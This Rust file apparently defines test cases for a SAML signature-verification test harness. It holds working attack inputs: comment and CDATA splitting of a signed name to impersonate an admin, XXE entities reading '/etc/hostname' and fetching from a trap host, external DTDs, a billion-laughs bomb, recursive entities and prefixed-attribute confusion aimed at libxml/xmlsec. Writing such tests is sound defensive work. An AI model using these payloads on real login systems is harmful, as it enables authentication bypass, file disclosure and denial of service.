//! Rule 1: markup that two readers read differently, or that makes one of them work for ever.
use super::rows::{Row, changed, row};
use crate::support::idp::{Document, Idp};

const MARKUP: &str = "markup";
const ENTITY: &str = "entity";
const PREFIXED: &str = "prefixed";

pub fn rows() -> Vec<Row> {
    let mut rows = texts();
    rows.extend(entities());
    rows.extend(prefixed());
    rows
}

/// Signed as an honest name of the attacker's choice, then split by what canonicalisation leaves out.
fn split(name: &str, between: &'static str) -> Vec<Row> {
    let make = |hole: &'static str, start: &'static str, end: &'static str| {
        row(MARKUP, &format!("{name} in {hole}"), move |idp: &Idp, d: Document| {
            let signed = d.set(hole, format!("{start}{end}")).sign("assertion", &idp.rsa);
            signed.set(hole, format!("{start}{between}{end}"))
        })
    };
    vec![
        make("name", "canary-admin", ".evil@idp.example"),
        make("group", "keeper-admins", "-of-nothing"),
        make("idp", "http://localhost:9/idp", ""),
    ]
}

fn texts() -> Vec<Row> {
    let mut rows = Vec::new();
    rows.extend(split("a comment", "<!-- -->"));
    rows.extend(split("an empty comment", "<!---->"));
    rows.extend(split("CDATA around nothing", "<![CDATA[]]>"));
    rows.extend(split("a processing instruction", "<?x y?>"));
    // libxml leaves out what it cannot read, and goes on: the digest stays the same.
    rows.extend(split("a reference to a surrogate", "&#xD800;"));
    rows.extend(split("a reference beyond all letters", "&#x110000;"));
    rows.extend(split("a reference to zero", "&#0;"));
    rows.extend(changed(MARKUP, "a signed processing instruction", &[("name", "canary-admin<?x y?>.evil")]));
    rows.extend(changed(
        MARKUP,
        "a signed element in a name",
        &[("name", "canary-admin<saml:x></saml:x>.evil")],
    ));
    rows.extend([
        row(MARKUP, "the rest of a name in CDATA", |idp, d| {
            d.set("name", "canary-admin.evil")
                .sign("assertion", &idp.rsa)
                .set("name", "canary-admin<![CDATA[.evil]]>")
        }),
        around("a comment before the document", "<!-- x -->{response}"),
        around("a comment behind the document", "{response}<!-- x -->"),
        around("a processing instruction before it", "<?x y?>{response}"),
        around("a style sheet", r#"<?xml-stylesheet href="http://{trap}/x" type="text/xsl"?>{response}"#),
        around("text behind the document", "{response}x"),
        around("text before it", "x{response}"),
        around("a zero byte behind it", "{response}\0"),
        around("XML 1.1", r#"<?xml version="1.1"?>{response}"#),
        around("an encoding that it does not have", r#"<?xml version="1.0" encoding="UTF-16"?>{response}"#),
        around("UTF-7", r#"<?xml version="1.0" encoding="UTF-7"?>{response}"#),
        around("two declarations", r#"<?xml version="1.0"?><?xml version="1.0"?>{response}"#),
        row(MARKUP, "a comment in the signature value", |idp, d| {
            let d = d.sign("assertion", &idp.rsa);
            let text =
                d.part("assertion.signature").replace("<ds:SignatureValue>", "<ds:SignatureValue><!-- x -->");
            d.set("assertion.signature", text)
        }),
        row(MARKUP, "a comment in the digest", |idp, d| {
            let d = d.sign("assertion", &idp.rsa);
            let text =
                d.part("assertion.signature").replace("<ds:DigestValue>", "<ds:DigestValue><!-- x -->");
            d.set("assertion.signature", text)
        }),
        row(MARKUP, "a namespace that is relative", |idp, d| {
            d.set("attributes", r#"<x xmlns="evil/../../x"></x>"#).sign("assertion", &idp.rsa)
        }),
        row(MARKUP, "a prefix that nobody declared", |idp, d| {
            d.set("attributes", "<y:x></y:x>").sign("assertion", &idp.rsa)
        }),
        row(MARKUP, "an attribute twice", |idp, d| {
            d.set("assertion.version", r#" Version="2.0" Version="2.0""#).sign("assertion", &idp.rsa)
        }),
        row(MARKUP, "an attribute twice by two prefixes", |idp, d| {
            d.set("assertion.version", r#" Version="2.0" xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2""#)
                .sign("assertion", &idp.rsa)
        }),
        row(MARKUP, "an attribute without quotes", |idp, d| {
            d.set("assertion.version", " Version=2.0").sign("assertion", &idp.rsa)
        }),
        row(MARKUP, "an end that is missing", |idp, d| {
            d.sign("response", &idp.rsa).set("response", "{response.head}")
        }),
        row(MARKUP, "tags that cross", |idp, d| {
            let d = d.sign("assertion", &idp.rsa);
            let text = d
                .text()
                .replace("</saml:Subject>", "")
                .replace("</saml:Assertion>", "</saml:Assertion></saml:Subject>");
            d.set("document", text)
        }),
        row(MARKUP, "another namespace for the assertion", |idp, d| {
            d.set("assertion.ns", r#" xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion""#)
                .sign("assertion", &idp.rsa)
        }),
        row(MARKUP, "another namespace for the response", |idp, d| {
            d.set("response.ns", r#" xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol""#)
                .sign("response", &idp.rsa)
        }),
        row(MARKUP, "no namespace", |idp, d| {
            d.set("assertion.ns", r#" xmlns:saml="""#).sign("assertion", &idp.rsa)
        }),
    ]);
    rows
}

fn around(name: &str, document: &'static str) -> Row {
    row(MARKUP, name, move |idp, d| d.sign("response", &idp.rsa).set("document", document))
}

fn doctype(name: &str, doctype: &'static str, canary: &'static str) -> Row {
    row(ENTITY, name, move |idp, d| {
        let signed = d.sign("response", &idp.rsa).set("name", canary);
        signed.set("document", format!("{doctype}{{response}}"))
    })
}

fn entities() -> Vec<Row> {
    let usual = "canary@idp.example";
    let mut rows = vec![
        doctype("an empty DOCTYPE", "<!DOCTYPE x>", usual),
        doctype("DOCTYPE in small letters", "<!doctype x>", usual),
        doctype("an internal entity", r#"<!DOCTYPE x [<!ENTITY e "canary-admin">]>"#, "&e;"),
        doctype(
            "an entity in an attribute",
            r#"<!DOCTYPE x [<!ENTITY e "canary">]>"#,
            r#"</saml:NameID><saml:NameID Format="&e;">x"#,
        ),
        doctype(
            "an external entity from a file",
            r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>"#,
            "&e;",
        ),
        doctype(
            "an external entity over http",
            r#"<!DOCTYPE x [<!ENTITY e SYSTEM "http://{trap}/x">]>"#,
            "&e;",
        ),
        doctype("an external DTD", r#"<!DOCTYPE x SYSTEM "http://{trap}/x.dtd">"#, usual),
        doctype("a public DTD", r#"<!DOCTYPE x PUBLIC "-//x//y" "http://{trap}/x.dtd">"#, usual),
        doctype("a parameter entity", r#"<!DOCTYPE x [<!ENTITY % e SYSTEM "http://{trap}/x"> %e;]>"#, usual),
        doctype(
            "attributes with defaults",
            r#"<!DOCTYPE x [<!ATTLIST samlp:Response ID ID #FIXED "x">]>"#,
            usual,
        ),
        doctype("many laughs", LAUGHS, "&i;"),
        doctype(
            "one large entity many times",
            r#"<!DOCTYPE x [<!ENTITY e "0123456789012345678901234567890123456789">]>"#,
            "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;",
        ),
        doctype("an entity that holds itself", r#"<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>"#, "&a;"),
    ];
    rows.extend(changed(ENTITY, "an entity that nobody declared", &[("name", "canary&nbsp;x")]));
    rows.extend(changed(ENTITY, "a reference to zero", &[("name", "canary&#0;x")]));
    rows.extend(changed(ENTITY, "a reference to a surrogate", &[("name", "canary&#xD800;x")]));
    rows.extend(changed(ENTITY, "a reference beyond all letters", &[("name", "canary&#x110000;x")]));
    rows.extend(changed(ENTITY, "an ampersand alone", &[("name", "canary & x")]));
    rows
}

const LAUGHS: &str = r#"<!DOCTYPE x [<!ENTITY a "laugh"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;"><!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]>"#;

/// libxml reads an attribute by its local name alone, and the first one counts: what a strict reader sees is not what
/// xmlsec does. The prefixed one stands first.
fn prefixed() -> Vec<Row> {
    let mut rows = Vec::new();
    for (name, hole, text) in [
        ("an address", "uri", r##" xmlns:x="urn:x" x:URI="http://{trap}/x" URI="#{signed}""##),
        ("a file without an end", "uri", r##" xmlns:x="urn:x" x:URI="file:///dev/zero" URI="#{signed}""##),
        ("nobody", "uri", r##" xmlns:x="urn:x" x:URI="#_nobody" URI="#{signed}""##),
        ("an empty reference", "uri", r##" xmlns:x="urn:x" x:URI="" URI="#{signed}""##),
        (
            "a transform",
            "exclusive",
            r#"<ds:Transform xmlns:x="urn:x" x:Algorithm="http://www.w3.org/2000/09/xmldsig#base64" Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"></ds:Transform>"#,
        ),
        (
            "a method",
            "method",
            r#"<ds:SignatureMethod xmlns:x="urn:x" x:Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1" Algorithm="{method.uri}"></ds:SignatureMethod>"#,
        ),
        (
            "a canonicalisation",
            "c14n",
            r#"<ds:CanonicalizationMethod xmlns:x="urn:x" x:Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315" Algorithm="{c14n.uri}"></ds:CanonicalizationMethod>"#,
        ),
        ("an ID", "assertion.id", r#" xmlns:x="urn:x" x:ID="_canary-x" ID="{assertion.name}""#),
        ("an ID of the response", "response.id", r#" xmlns:x="urn:x" x:ID="_canary-x" ID="{response.name}""#),
    ] {
        for element in ["assertion", "response"] {
            rows.push(row(PREFIXED, &format!("{name}, {element}"), move |idp, d| {
                d.set(hole, text).sign(element, &idp.rsa)
            }));
        }
    }
    rows
}
